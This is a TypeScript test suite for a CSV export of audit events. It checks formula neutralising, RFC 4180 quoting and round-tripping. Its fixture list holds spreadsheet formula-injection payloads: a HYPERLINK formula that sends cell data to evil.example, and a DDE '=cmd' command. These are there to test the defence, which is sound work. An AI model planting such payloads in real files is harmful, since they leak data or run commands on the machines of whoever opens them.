import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildEntry } from '../pipeline';
import { CLEAR_TEXT_TENANT_SETTINGS } from '../tenant';
import { validateEnvelope } from '../validate';
import { CSV_COLUMNS, csvField, csvHeader, csvLine, csvRecord, neutraliseFormula, restoreFormula } from './csv';
import { csvEncoder } from './encoders';
import { toExportRecord, type ExportRecord } from './record';

const NOW = new Date('2026-03-01T00:00:00.000Z');

/** Cells a spreadsheet would evaluate, or that break naive CSV writers. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+twice",
  "'plain apostrophe",
  'comma, and "quotes"',
  'two\nlines\r\nand CRLF',
  '  leading and trailing spaces  ',
  '東京の利用者 北京用户 서울',
  'emoji 🔐 and \u2028 separators',
  '=cmd|" /C calc"!A0',
];

function record(i: number, overrides: Record<string, unknown> = {}): ExportRecord {
  const hostile = HOSTILE[i % HOSTILE.length]!;
  // Names refuse control characters at ingest; free-form metadata and changes keep them.
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  const name = /[\u0000-\u001f]/.test(hostile) ? `=${i}+${i}` : hostile;
  const envelope = validateEnvelope(
    {
      specVersion: '1.0',
      eventId: `evt-${i}`,
      eventType: i % 3 === 0 ? 'repo.settings_updated' : 'auth.login.failed',
      tenantId: 'acme',
      occurredAt: new Date(Date.parse('2026-02-01T00:00:00.000Z') + i * 61_000).toISOString(),
      source: 'repo-service',
      sequence: i,
      actor: { type: 'user', id: `u-${i % 7}`, name, roles: ['admin', `@role-${i}`] },
      resource: { type: 'repository', id: `r-${i}`, name, path: `/org/${i}` },
      ...(i % 3 === 0
        ? {
            changes: { before: { title: hostile, n: -1.5 }, after: { title: `${hostile}!`, n: 2, list: [null, true] } },
          }
        : { outcome: 'failure' }),
      metadata: { note: hostile, nested: { deep: [hostile, 1, false, null] } },
      context: { correlationId: `corr-${i}` },
      ...overrides,
    },
    NOW,
  );
  const entry = buildEntry(envelope, CLEAR_TEXT_TENANT_SETTINGS, { via: 'pubsub' });
  return toExportRecord({ ...entry, recordedAt: new Date(Date.parse(entry.occurredAt) + 1234).toISOString() });
}

interface Cell {
  value: string;
  quoted: boolean;
}

/** Parses CSV text with a real RFC 4180 parser, keeping whether each field was quoted. */
function parseCsv(text: string): Cell[][] {
  return parse(text, {
    bom: true,
    relax_quotes: false,
    cast: (value, context) => ({ value, quoted: context.quoting }),
  }) as unknown as Cell[][];
}

describe('formula neutralising', () => {
  it('prefixes an apostrophe to every cell a spreadsheet would evaluate', () => {
    for (const value of ['=1', '+1', '-1', '@A1', '\t1', '\r1']) expect(neutraliseFormula(value)).toBe(`'${value}`);
    for (const value of ['1', 'a=1', ' =1', '', "'", "'a", '東京']) expect(neutraliseFormula(value)).toBe(value);
  });

  it('is reversible, also for values that already start with apostrophes', () => {
    for (const value of [...HOSTILE, "'", "''", "'=", "''=x", "'''-", '', 'x']) {
      expect(restoreFormula(neutraliseFormula(value))).toBe(value);
    }
    expect(neutraliseFormula("'=x")).toBe("''=x");
  });
});

describe('csvField', () => {
  it('quotes what RFC 4180 requires and doubles quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('plain')).toBe('plain');
  });

  it('keeps an absent value and an empty string apart', () => {
    expect(csvField(undefined)).toBe('');
    expect(csvField('')).toBe('""');
  });
});

describe('CSV export', () => {
  const records = Array.from({ length: 45 }, (_, i) => record(i));
  const encoder = csvEncoder(true);
  const text = encoder.start() + records.map((r, i) => encoder.record(r, i)).join('') + encoder.end(records.length);

  it('starts with a UTF-8 byte order mark and the header, lines end with CRLF', () => {
    const bytes = Buffer.from(text, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.slice(1, csvHeader().length + 1)).toBe(csvHeader());
    expect(csvHeader().endsWith('\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(csvEncoder(false).start().charCodeAt(0)).not.toBe(0xfeff);
  });

  it('reads back, through a real CSV parser, into exactly the source records', () => {
    const rows = parseCsv(text);
    expect(rows[0]!.map((c) => c.value)).toEqual(CSV_COLUMNS.map((c) => c.name));
    const back = rows.slice(1).map((row) => csvRecord(row));
    expect(back).toHaveLength(records.length);
    expect(back).toEqual(records);
  });

  it('leaves no cell that a spreadsheet would evaluate', () => {
    const cells = parseCsv(text).flat();
    const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c.value));
    expect(dangerous).toEqual([]);
    // The hostile values are there, made inert by the apostrophe.
    expect(cells.some((c) => c.value === `'${HOSTILE[0]}`)).toBe(true);
  });

  it('neutralises text cells that start with a tab or CR, as stored data written by other paths may', () => {
    const handmade = { ...record(3), eventId: '\t=1+1', source: '\r=2+2', hash: "'-x" };
    const [row] = parseCsv(csvLine(handmade));
    expect(row!.filter((c) => /^[=+\-@\t\r]/.test(c.value))).toEqual([]);
    expect(row!.map((c) => c.value)).toContain("'\t=1+1");
    expect(csvRecord(row!)).toEqual(handmade);
  });

  it('writes every row with the same number of fields', () => {
    const widths = new Set(parseCsv(text).map((row) => row.length));
    expect([...widths]).toEqual([CSV_COLUMNS.length]);
  });

  it('round-trips an empty string, absent members and an anonymous actor', () => {
    const sparse = record(1, {
      actor: { type: 'anonymous' },
      resource: undefined,
      metadata: undefined,
      context: undefined,
    });
    const named = record(2, { actor: { type: 'user', id: 'u-1', name: '' } });
    for (const r of [sparse, named]) {
      const [row] = parseCsv(csvLine(r));
      expect(csvRecord(row!)).toEqual(r);
    }
    expect(named.actor.name).toBe('');
    expect(sparse.resource).toBeUndefined();
  });
});
